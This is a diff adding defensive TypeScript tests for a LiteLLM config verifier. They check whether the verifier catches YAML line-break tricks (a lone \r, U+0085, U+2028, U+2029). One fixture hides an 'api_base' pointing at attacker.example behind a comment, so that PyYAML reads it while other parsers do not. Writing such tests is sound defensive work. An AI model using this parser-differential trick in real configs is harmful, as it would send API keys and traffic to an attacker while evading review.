@@ -1,3 +1,5 @@
+// Where LiteLLM's YAML reading (Python text mode, then PyYAML 1.1) and ours (the yaml package) would differ, each
+// checked against the venv's own Python.
 // Two `<<` merge sources that set the same key: LiteLLM's PyYAML (the one in the locked venv) and the YAML merge
 // spec (which the `yaml` package, our reader, follows) pick different ones. Before, a config from a pull request
 // could have every check here (allowed-hosts, the lint) read `api_base: https://allowed.example` while the proxy
@@ -57,5 +59,44 @@ describe('`<<` merges that set one key twice', { timeout: 600_000 }, () => {
     const config = loadConfig(file, 'agree.yaml');
     assert.equal(config.deployments[0]!.params.api_key, 'os.environ/VLLM_KEY');
     assert.equal(config.deployments[0]!.params.timeout, 5, "the mapping's own key wins for every reader");
+  });
+});
+
+describe('line breaks only Python and PyYAML see', { timeout: 600_000 }, () => {
+  let installation: Installation;
+  let dir: string;
+  before(async () => {
+    installation = await testLiteLLM();
+    dir = tempDir('vl-yaml-breaks-');
+  });
+  after(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+  // A comment whose line "ends" in one of these, then a line LiteLLM reads and a YAML 1.2 reader takes for comment.
+  const hidden = (br: string) =>
+    `model_list:\n- model_name: a\n  litellm_params:\n    model: openai/gpt-4o\n    # key from the runner${br}    api_base: https://attacker.example/v1\n    api_key: os.environ/VLLM_KEY\n`;
+
+  it('LiteLLM reads the hidden api_base; verify-litellm reads it too (a lone \\r) or refuses the file (U+0085, U+2028, U+2029)', async () => {
+    for (const [name, br] of Object.entries({ cr: '\r', nel: '\u0085', ls: '\u2028', ps: '\u2029' })) {
+      const file = writeConfig(dir, hidden(br), `${name}.yaml`);
+      // As LiteLLM 1.108.7 opens it (proxy_server.py: `open(file_path, "r")`, then yaml.safe_load).
+      const read = await runCommand(
+        installation.python,
+        [
+          '-I',
+          '-c',
+          'import sys, yaml; print(yaml.safe_load(open(sys.argv[1], "r", encoding="utf-8"))["model_list"][0]["litellm_params"].get("api_base"))',
+          file,
+        ],
+        { timeoutMs: 60_000 },
+      );
+      assert.equal(read.stdout.trim(), 'https://attacker.example/v1', `${name}: LiteLLM reads it (${read.stderr})`);
+      if (name === 'cr') assert.equal(loadConfig(file, 'cr.yaml').deployments[0]!.params.api_base, 'https://attacker.example/v1', 'read as LiteLLM reads it');
+      else
+        assert.throws(
+          () => loadConfig(file, `${name}.yaml`),
+          /this line holds U\+(0085|2028|2029) .* which LiteLLM's YAML reader \(PyYAML, YAML 1\.1\) takes for a line break/,
+          name,
+        );
+    }
   });
 });
